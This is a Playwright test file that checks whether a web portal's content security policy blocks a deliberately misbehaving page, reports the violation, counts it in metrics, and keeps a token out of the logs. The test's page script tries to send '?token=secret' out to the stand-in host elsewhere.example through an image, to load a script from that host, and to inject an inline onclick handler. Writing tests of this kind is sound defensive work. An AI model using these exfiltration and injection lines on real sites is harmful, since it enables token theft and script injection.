import { expect, test } from './support/fixtures.ts'

test.describe('a page that is made to break its policy', () => {
  test.use({ breaksPolicy: true })

  test('is kept from it, and its browser reports that', async ({ pageOf, portal }) => {
    const page = await pageOf('ashby-guest')
    const report = page.waitForResponse(answer => answer.url().endsWith('/api/csp-reports'))
    const ran = await page.evaluate(() => {
      document.createElement('img').src = 'https://elsewhere.example/x.png?token=secret'
      const attempts = [
        () => document.createElement('script').setAttribute('src', 'https://elsewhere.example/x.js'),
        () => document.body.insertAdjacentHTML('beforeend', '<b onclick="alert(1)">x</b>'),
      ]
      return attempts.map(attempt => {
        try {
          attempt()
          return true
        } catch {
          return false
        }
      })
    })
    expect(ran).toEqual([false, false])
    expect((await report).status()).toBe(204)
    await expect.poll(() => portal.output()).toMatch(/kept from breaking its content security policy/)
    await expect
      .poll(async () => (await fetch(`${portal.url}/metrics`)).text())
      .toMatch(/csp_reports_total\{directive="img-src"\} 1\n/)
    expect(portal.output()).not.toContain('secret')
  })
})
